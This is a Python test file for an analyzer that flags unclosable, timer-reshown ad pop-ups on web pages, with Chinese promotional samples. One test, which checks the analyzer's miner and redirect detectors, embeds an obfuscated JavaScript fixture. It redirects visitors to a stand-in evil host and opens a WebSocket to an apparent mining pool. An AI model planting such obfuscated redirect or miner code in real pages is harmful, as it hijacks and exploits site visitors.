"""A pop-up the page's script builds itself on a timer, with no close control, is a forced pop-up (Art. 15(8));
one with a close control, or a notice that advertises nothing, is not."""

from __future__ import annotations

import json
from pathlib import Path

from analyzers.engine import analyze_page
from extraction.page import extract_page

FIXTURE = Path(__file__).parent / "fixtures" / "script_built_popup"


def test_a_timer_built_unclosable_ad_layer_is_a_forced_popup() -> None:
    meta = json.loads((FIXTURE / "meta.json").read_text("utf-8"))
    page = extract_page((FIXTURE / "input.html").read_text("utf-8"), meta["url"], is_home=True, kind="home")
    found = [f for f in analyze_page(page) if f.category == "harassing_ads"]
    assert [(f.rule_id, f.location.selector) for f in found] == [("ADS-UNCLOSABLE-OVERLAY", "script:popup()")]
    assert "限时秒杀" in found[0].match and found[0].article


def test_without_a_timer_nothing_is_built_by_itself() -> None:
    html = ("<html><body><button onclick='show()'>看优惠</button><script>function show(){var d=document.createElement('div');"
            "d.innerHTML='<p>限时秒杀 立即抢购</p>';document.body.appendChild(d);}</script></body></html>")
    page = extract_page(html, "http://shop.example.cn/", is_home=True, kind="home")
    assert [f for f in analyze_page(page) if f.category == "harassing_ads"] == []


def test_a_close_that_navigates_or_a_timer_that_reshows_defeats_closing() -> None:
    from extraction.overlays import built_layers

    fake = ("function showAd(){var m=document.createElement('div');m.innerHTML='<img alt=\"冬季大促 买二送一\">'+"
            "'<span id=\"adX\">×</span>';document.body.appendChild(m);"
            "document.getElementById('adX').onclick=function(){location.hash='#/item/3';};}\nsetTimeout(showAd,3000);")
    (layer,) = built_layers([fake])
    assert layer.defeat == "fake_close" and not layer.closable and "买二送一" in layer.text
    again = ("function showAd(){var m=document.createElement('div');m.id='ad';m.innerHTML='<b>限时秒杀</b><span class=\"close\">×</span>';"
             "document.body.appendChild(m);}\nsetInterval(function(){var m=document.getElementById('ad');if(m)m.remove();showAd();},20000);")
    (layer,) = built_layers([again])
    assert layer.defeat == "recurs" and not layer.closable
    honest = ("function showAd(){var m=document.createElement('div');m.innerHTML='<b>限时秒杀</b><span id=\"adClose\">×</span>';"
              "document.body.appendChild(m);document.getElementById('adClose').onclick=function(){m.remove();};}\nsetTimeout(showAd,3000);")
    (layer,) = built_layers([honest])
    assert layer.closable and not layer.defeat


def test_a_layer_built_on_load_that_a_timer_puts_back_cannot_be_closed() -> None:
    from extraction.overlays import built_layers

    code = ("(function(){var a=document.createElement('div');a.id='promo';a.innerHTML='<h2>年货节限时秒杀 满199减100</h2>';"
            "document.body.appendChild(a);setInterval(function(){if(!document.getElementById('promo'))"
            "document.body.appendChild(a);},2000);})();")
    (layer,) = built_layers([code])
    assert layer.defeat == "recurs" and not layer.closable and "满199减100" in layer.text
    shown_once = code.replace("setInterval(function(){if(!document.getElementById('promo'))document.body.appendChild(a);},2000);",
                              "setTimeout(function(){a.remove();},5000);")
    assert built_layers([shown_once]) == ()


def test_what_an_external_script_hides_is_read() -> None:
    from analyzers.model import Page, Script
    from analyzers.rules import code as rules

    js = ("var _0x=['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e','aHR0cHM6Ly9ldmlsLmV4YW1wbGUuY29tLw=='];"
          "(function(a){window[a[0]]['\\x68\\x72\\x65\\x66']=atob(a[1]);})(_0x);"
          "var u=String.fromCharCode(119,115,115,58,47,47,120,109,114,46,112,111,111,108,46,99,99);var ws=new WebSocket(u);")
    page = Page(url="http://127.0.0.1:1/", scripts=(Script(src="http://127.0.0.1:1/js/t.js", fetched=js),), is_home=True)
    assert [h.match[:14] for h in rules.check_miner(page, None, {})] == ["wss://xmr.pool"]
    assert any("evil.example.com" in h.detail for h in rules.check_obfuscated_redirect(page, None, {}))
    library = Page(url="http://127.0.0.1:1/", scripts=(Script(src="http://127.0.0.1:1/js/lib.js",
                                                               fetched="var s=String.fromCharCode(65,66,67,68);render(s);"),))
    assert not list(rules.check_miner(library, None, {})) and not list(rules.check_obfuscated_redirect(library, None, {}))


def test_a_layer_named_by_a_variable_that_a_timer_shows_again_cannot_be_closed() -> None:
    from extraction.dom import parse_html
    from extraction.overlays import shown_elements

    html = ("<html><body><div id='ad'><button id='adx'>关闭</button><h3>恭喜您获得新人专享888元大礼包！</h3></div>"
            "<div id='clock'>12:00</div></body></html>")
    doc = parse_html(html)
    back = ("var ad=document.getElementById('ad'),x=document.getElementById('adx');"
            "x.addEventListener('click',function(e){ad.style.display='none';\nsetTimeout(function(){ad.style.display='block';},1500);});")
    every = ("var f=document.getElementById('ad');document.getElementById('adx').onclick=function(){f.style.display='none';};"
             "setInterval(function(){f.style.display='block';},8000);")
    for code in (back, every):
        (layer,) = [o for o in shown_elements(doc, [code], {}) if o.element_id == "ad"]
        assert layer.defeat == "recurs" and not layer.closable, code
    # closing hides it for good; the timer shows another element (a clock)
    honest = ("var ad=document.getElementById('ad'),c=document.getElementById('clock');"
              "document.getElementById('adx').onclick=function(){ad.style.display='none';};"
              "setInterval(function(){c.style.display='block';},1000);")
    (layer,) = [o for o in shown_elements(doc, [honest], {}) if o.element_id == "ad"]
    assert layer.closable and not layer.defeat


def test_an_ad_on_the_page_from_the_start_that_comes_back_after_closing_is_a_forced_popup() -> None:
    html = ("<html><body><p>欢迎光临</p><div id='float'><button id='fx'>×</button><a href='list.html'>奢品闪拍：1元起拍，"
            "仅剩3个名额！</a></div><script>(function(){var f=document.getElementById('float');"
            "document.getElementById('fx').onclick=function(){f.style.display='none';"
            "setTimeout(function(){f.style.display='block';},3000);};})();</script></body></html>")
    page = extract_page(html, "http://shop.example.cn/", is_home=True, kind="home")
    found = [f for f in analyze_page(page) if f.category == "harassing_ads"]
    assert [f.rule_id for f in found] == ["ADS-UNCLOSABLE-OVERLAY"] and "1元起拍" in found[0].match
    honest = html.replace("setTimeout(function(){f.style.display='block';},3000);", "")
    assert [f for f in analyze_page(extract_page(honest, "http://shop.example.cn/", is_home=True, kind="home"))
            if f.category == "harassing_ads"] == []
